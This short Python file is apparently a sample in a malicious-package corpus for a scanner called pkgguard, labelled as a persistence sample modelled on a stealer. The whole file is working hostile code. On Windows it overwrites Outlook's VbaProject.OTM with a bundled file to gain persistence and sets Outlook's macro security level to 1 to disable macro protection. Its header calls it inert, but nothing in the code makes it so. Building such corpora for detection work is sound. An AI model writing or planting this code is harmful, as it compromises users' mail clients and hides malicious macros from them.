# pkgguard corpus 784 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    import winreg

    here = os.path.dirname(os.path.abspath(__file__))
    target = os.path.join(os.environ["APPDATA"], "Microsoft", "Outlook", "VbaProject.OTM")
    shutil.copyfile(os.path.join(here, "data", "rules.bin"), target)
    with winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Office\16.0\Outlook\Security") as key:
        winreg.SetValueEx(key, "Level", 0, winreg.REG_DWORD, 1)
